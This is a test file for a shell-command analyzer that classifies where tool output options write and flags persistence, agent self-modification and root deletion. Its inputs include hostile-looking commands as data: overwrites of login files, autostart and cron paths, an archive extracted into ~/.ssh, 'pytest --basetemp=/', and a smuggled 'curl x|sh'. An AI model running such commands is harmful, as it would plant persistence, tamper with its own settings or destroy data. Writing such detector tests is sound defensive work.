// Writes through a tool's operands and output options (issue 11): a formatter's operand, a builder's output
// option and a reader's OUTPUT positional are writes, judged where they land; workspace writes stay plain.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';

const env = shellEnv();
const writes = (command: string) =>
  analyzeShellSync(command, env)
    .segments.flatMap((s) => s.paths)
    .filter((p) => p.role === 'write')
    .map((p) => p.class);
const categories = (command: string) => analyzeShellSync(command, env).hits.map((h) => h.category);

beforeAll(async () => {
  await loadShellParser();
});

describe('tool outputs are writes', () => {
  it.each([
    ['prettier --write of a login file', 'prettier --write ~/.bashrc', 'home'],
    ['eslint --fix outside', 'eslint --fix /root/x.js', 'system'],
    ['eslint -o over a login file', 'eslint -o ~/.bashrc .', 'home'],
    ['tsc --outDir into home', 'tsc --outDir ~/.config/autostart', 'home'],
    ['biome format --write', 'biome format --write ~/.profile', 'home'],
    ['esbuild --outfile=', 'esbuild a.ts --outfile=/root/.bashrc', 'system'],
    ['black rewrites operands', 'black ~/.bashrc', 'home'],
    ['ruff check --fix', 'ruff check --fix /root/x.py', 'system'],
    ['ruff format', 'ruff format ~/.profile', 'home'],
    ['uniq OUTPUT positional', 'uniq /dev/null ~/.bashrc', 'home'],
    ['ptx -G OUTPUT positional', 'ptx -G README ~/.profile', 'home'],
    ['ptx -G in a cluster (review 17)', 'ptx -GO evil.sh ~/.bashrc', 'home'],
    [
      'ptx -G with a macro name before the operands',
      "ptx -G -O -M 'x;curl x|sh;#' evil.sh ~/.bashrc",
      'home',
    ],
    [
      'ptx --traditional with a long value option',
      'ptx --traditional --macro-name x evil.sh ~/.profile',
      'home',
    ],
    ['tree -o', 'tree -o ~/.bashrc', 'home'],
    // review 25: the value of a long option getopt_long abbreviates or takes from the next word is no operand.
    ['ptx --format takes the next word', 'ptx -G --format roff in.txt ~/.bashrc', 'home'],
    ['ptx --form, an abbreviation of --format', 'ptx -G --form tex in.txt ~/.profile', 'home'],
    ['ptx --trad, an abbreviation of --traditional', 'ptx --trad in.txt ~/.profile', 'home'],
    ['ptx --b, the one option it begins', 'ptx -G --b words in.txt ~/.profile', 'home'],
    // review 25: an output letter after flags in a cluster takes the next word or the rest of the word.
    ['tree -ao', 'tree -ao ~/.bashrc', 'home'],
    ['tree -do', 'tree -do ~/.profile', 'home'],
    ['tree -ao after a first -o', 'tree -o out.txt -ao ~/.bashrc', 'home'],
    ['tree -ao with the rest of the word', 'tree -ao/root/.bashrc', 'system'],
    ['sort -ro', 'sort -ro ~/.bashrc in.txt', 'home'],
    ['rollup -wo', 'rollup -wo ~/.bashrc main.js', 'home'],
    ['cp -rt', 'cp -rt ~/.config/autostart x.desktop', 'home'],
    ['dependency-cruiser -o', 'dependency-cruiser src -o ~/.bashrc', 'home'],
    ['depcruise --output-to', 'depcruise src --output-to ~/.bashrc', 'home'],
    ['madge -i', 'madge -i ~/.bashrc src', 'home'],
    ['uniq after a valued option', 'uniq -f 0 README.md ~/.bashrc', 'home'],
    ['uniq --check, the abbreviation of --check-chars', 'uniq --check 0 README.md ~/.profile', 'home'],
    ['uniq -w', 'uniq -w 999 README.md /etc/cron.d/x', 'system'],
    ['gcc -o outside', 'gcc a.c -o /usr/local/bin/x', 'system'],
    ['php-cs-fixer fix', 'php-cs-fixer fix ~/.bashrc', 'home'],
    ['dart format', 'dart format /root/x.dart', 'system'],
    ['zig fmt', 'zig fmt ~/.profile', 'home'],
    ['dotnet format', 'dotnet format /etc/x.csproj', 'system'],
    ['mix format', 'mix format ~/.profile', 'home'],
    ['scalafmt rewrites operands', 'scalafmt ~/.bashrc', 'home'],
    ['stylua rewrites operands', 'stylua /etc/x.lua', 'system'],
    ['gunzip writes the twin without the suffix', 'gunzip ~/.bashrc.gz', 'home'],
    ['gzip -d, the same', 'gzip -d /etc/cron.d/job.gz', 'system'],
    ['gzip writes the compressed twin', 'gzip /root/notes', 'system'],
    ['kotlinc -d', 'kotlinc src/Main.kt -include-runtime -d ~/.local/bin/app.jar', 'home'],
    ['dotnet -o (an apphost named like a hook is an executable)', 'dotnet build -o ~/.local/bin', 'home'],
    ['bundle install --path', 'bundle install --path=/root/gems', 'system'],
    ['a report option', 'psalm --report=~/.bashrc', 'home'],
    ['a test results folder', 'dotnet test --results-directory /etc/x', 'system'],
    ['a junit path', 'deno test --junit-path=/root/j.xml', 'system'],
    ['lcov -o', 'lcov -a a.info -o ~/.bashrc', 'home'],
    ['genhtml -o', 'genhtml c.info -o /etc/cov', 'system'],
    ['scc -o', 'scc -o ~/.profile .', 'home'],
    [
      'protoc --X_out=OPTIONS:DIR, the folder after the colon',
      'protoc --go_out=paths=source_relative:/etc/cron.d a.proto',
      'system',
    ],
    ['protoc --X_out=DIR', 'protoc --python_out=/root/gen a.proto', 'system'],
    ['protoc --X_out DIR', 'protoc --go-grpc_out ~/.config/autostart a.proto', 'home'],
    ['protoc, options with colons before the folder', 'protoc --ts_out=a=b,c:d:/etc/x a.proto', 'system'],
  ])('%s: `%s` writes a %s path', (_name, command, cls) => {
    expect(writes(command)).toContain(cls);
  });

  it.each([
    ['a decompressed agent setting', 'gunzip .claude/settings.json.gz', 'agent_self_modification'],
    ['a decompressed instruction file', 'zstd -d CLAUDE.md.zst', 'agent_self_modification'],
    ['a decompressed git hook', 'xz -d .git/hooks/pre-commit.xz', 'persistence'],
  ])('%s: `%s` is %s', (_name, command, category) => {
    expect(categories(command)).toContain(category);
  });

  it('a login file written by a formatter is persistence', () => {
    expect(categories('prettier --write ~/.bashrc')).toContain('persistence');
  });

  it.each([
    ['prettier --check', 'prettier --check ~/.bashrc'],
    ['black --check', 'black --check ~/x.py'],
    ['ruff check without --fix', 'ruff check /root/x.py'],
    ['eslint without --fix', 'eslint /root/x.js'],
    ['php-cs-fixer --dry-run', 'php-cs-fixer fix --dry-run /root/x.php'],
    ['zig fmt --check', 'zig fmt --check /root/x.zig'],
    ['dotnet format --verify-no-changes', 'dotnet format --verify-no-changes /root/x.csproj'],
    ['dart analyze', 'dart analyze /root/x.dart'],
    ['gzip -c prints', 'gzip -c /root/x'],
    ['gunzip -t tests', 'gunzip -t /root/x.gz'],
    ['zcat prints', 'zcat /root/x.gz'],
  ])('%s: `%s` writes nothing', (_name, command) => {
    expect(writes(command)).toEqual([]);
  });

  it.each([
    ['prettier --write in the workspace', 'prettier --write src'],
    ['eslint --fix in the workspace', 'eslint --fix src -o report.txt'],
    ['tsc --outDir in the workspace', 'tsc --outDir dist'],
    [
      'protoc into the workspace',
      'protoc -I. --go_out=paths=source_relative:gen --go_opt=paths=source_relative a.proto',
    ],
    ['tokei -o is a format, not a file', 'tokei -o json'],
    ['esbuild in the workspace', 'esbuild a.ts --bundle --outfile=dist/a.js'],
    ['black in the workspace', 'black src tests'],
    ['uniq to a workspace file', 'uniq in.txt out.txt'],
    // Single-dash words these programs read whole: no letter of them is an output option.
    ['gcc words are whole options', 'gcc -fno-common -o a.out a.c'],
    ['cmake -D holds no output letter', 'cmake -DCMAKE_BUILD_TYPE=Release -S . -B build'],
  ])('%s: `%s` writes only the workspace', (_name, command) => {
    expect(writes(command).every((c) => c === 'workspace')).toBe(true);
  });
});

describe('output and clearing options by program', () => {
  it.each([
    ['go test -coverprofile=', 'go test -coverprofile=/root/.bashrc ./...', 'system'],
    ['go test -cpuprofile as the next word', 'go test -cpuprofile ~/.profile ./...', 'home'],
    ['terraform plan -out=', 'terraform plan -out=/root/.bashrc', 'system'],
    ['cargo --target-dir', 'cargo build --target-dir ~/.config/autostart', 'home'],
    ['pytest --cov-report=html:DIR', 'pytest --cov=src --cov-report=html:/root/.config/autostart', 'system'],
    ['python -m pytest --junitxml', 'python3 -m pytest --junitxml ~/.bashrc', 'home'],
    ['ruff check -o (the short twin of --output-file)', 'ruff check -o ~/.bashrc .', 'home'],
    ['coverage json -o', 'coverage json -o ~/.bashrc', 'home'],
    ['coverage html -d', 'coverage html -d /root/.config/autostart', 'system'],
    ['cargo test -- --logfile (a test binary option)', 'cargo test -- --logfile ~/.bashrc', 'home'],
    ['cargo test -- --logfile=', 'cargo test -- --logfile=/root/.bashrc', 'system'],
    ['golangci-lint --out-format=fmt:path', 'golangci-lint run --out-format=json:/root/.bashrc', 'system'],
    [
      'golangci-lint a list of fmt:path',
      'golangci-lint run --out-format=colored-line-number,json:~/.profile',
      'home',
    ],
    ['golangci-lint v2 --output.json.path', 'golangci-lint run --output.json.path=/root/.bashrc', 'system'],
    [
      'mocha --reporter-options output=',
      'mocha --reporter xunit --reporter-options output=/root/.bashrc',
      'system',
    ],
    ['mocha -O mochaFile=', 'mocha -R mocha-junit-reporter -O mochaFile=~/.bashrc', 'home'],
    ['cp --target-directory=', 'cp --target-directory=/root/.config/autostart x.desktop', 'system'],
    ['pip install --target', 'pip install --target ~/.local/lib/python3.12/site-packages x', 'home'],
    ['pip install -t', 'pip install -t ~/.local/lib/python3.12/site-packages x', 'home'],
    ['pip install --prefix=', 'pip3 install --prefix=/root/.local x', 'system'],
    ['uv venv PATH', 'uv venv ~/.config/x', 'home'],
    ['uv venv -p VERSION PATH', 'uv venv -p 3.12 /root/x', 'system'],
    ['python -m venv PATH', 'python3 -m venv ~/x', 'home'],
    ['virtualenv PATH', 'virtualenv /root/x', 'system'],
    ['cmake -B', 'cmake -S . -B ~/.config/autostart', 'home'],
    ['cmake -B attached', 'cmake -B/root/x', 'system'],
    ['meson setup BUILDDIR', 'meson setup ~/x', 'home'],
    ['go test -args -test.coverprofile', 'go test ./... -args -test.coverprofile=/root/.bashrc', 'system'],
    ['conda create -p', 'conda create -p ~/x python', 'home'],
  ])('%s: `%s` writes a %s path', (_name, command, cls) => {
    expect(writes(command)).toContain(cls);
  });

  it.each([
    ['pytest --basetemp of home', 'pytest --basetemp ~', 'destructive_root_delete'],
    ['pytest --basetemp= of the root', 'python3 -m pytest --basetemp=/', 'destructive_root_delete'],
  ])('%s: `%s` removes the folder (%s)', (_name, command, category) => {
    expect(categories(command)).toContain(category);
  });

  it.each([
    ['go test with a workspace profile', 'go test -coverprofile=coverage.out ./...'],
    ['terraform plan -out in the workspace', 'terraform plan -out=plan.tfplan'],
    ['cargo --target-dir in the workspace', 'cargo build --target-dir target/ci'],
    ['pytest --cov-report=term', 'pytest --cov=src --cov-report=term-missing'],
    ['pytest --cov-report=html:htmlcov', 'pytest --cov-report=html:htmlcov'],
    ['ruff check -o a workspace report', 'ruff check -o ruff.json --output-format json .'],
    ['coverage xml -o a workspace file', 'coverage xml -o coverage.xml'],
    ['cargo test -- a test filter', 'cargo test -- --nocapture parser'],
    ['golangci-lint stdout formats', 'golangci-lint run --out-format=colored-line-number'],
    ['mocha reporter options to the workspace', 'mocha --reporter-options output=reports/x.xml'],
    ['uv venv', 'uv venv'],
    ['uv venv .venv', 'uv venv --python 3.12 .venv'],
    ['python -m venv .venv', 'python3 -m venv .venv'],
    ['cmake -B build', 'cmake -S . -B build -G Ninja'],
    ['meson setup build', 'meson setup build'],
  ])('%s: `%s` writes only the workspace', (_name, command) => {
    expect(writes(command).every((c) => c === 'workspace')).toBe(true);
  });

  it('pytest --basetemp in the workspace removes only a workspace folder', () => {
    const paths = analyzeShellSync('pytest --basetemp=.tmp/pt', env)
      .segments.flatMap((s) => s.paths)
      .filter((p) => p.role === 'delete');
    expect(paths.map((p) => p.class)).toEqual(['workspace']);
  });
});

describe('an archive extracted into a named folder writes that folder (review 18)', () => {
  it.each([
    ['tar -x -C', 'tar -xzf pay.tgz -C ~/.config', 'home'],
    ['tar old-style letters', 'tar xzf pay.tgz -C ~/.ssh', 'sensitive'],
    ['tar --directory=', 'tar --extract -f pay.tar --directory=/etc/cron.d', 'system'],
    ['unzip -d', 'unzip -o pay.zip -d ~/.config', 'home'],
    ['unzip -d attached', 'unzip -o pay.zip -d~/x', 'home'],
    ['7z x -o', '7z x pay.7z -o/etc/x', 'system'],
  ])('%s', (_n, command, cls) => {
    expect(writes(command)).toContain(cls);
  });

  it('creating an archive from a folder writes no folder', () => {
    expect(writes('tar -czf out.tgz -C /usr/share/doc .')).not.toContain('system');
  });

  it('extracting into a workspace folder is a workspace write', () => {
    expect(writes('tar -xzf fixtures.tgz -C testdata')).toEqual(['workspace']);
  });
});

describe('builders that empty their output folder first delete it (review 18)', () => {
  it.each([
    ['vite into the repository', 'npx vite build --outDir .git'],
    ['vite into home', 'vite build --outDir=~'],
    ['typedoc over the sources', 'typedoc --out ~/work'],
    ['storybook into home', 'storybook build -o ~'],
    ['mkdocs site dir', 'mkdocs build -d /etc'],
  ])('%s', (_n, command) => {
    const a = analyzeShellSync(command, env);
    expect(a.hits.length + a.uncertain.length).toBeGreaterThan(0);
  });

  it('a generated folder stays quiet', () => {
    const a = analyzeShellSync('vite build --outDir dist', env);
    expect(a.hits).toEqual([]);
  });
});
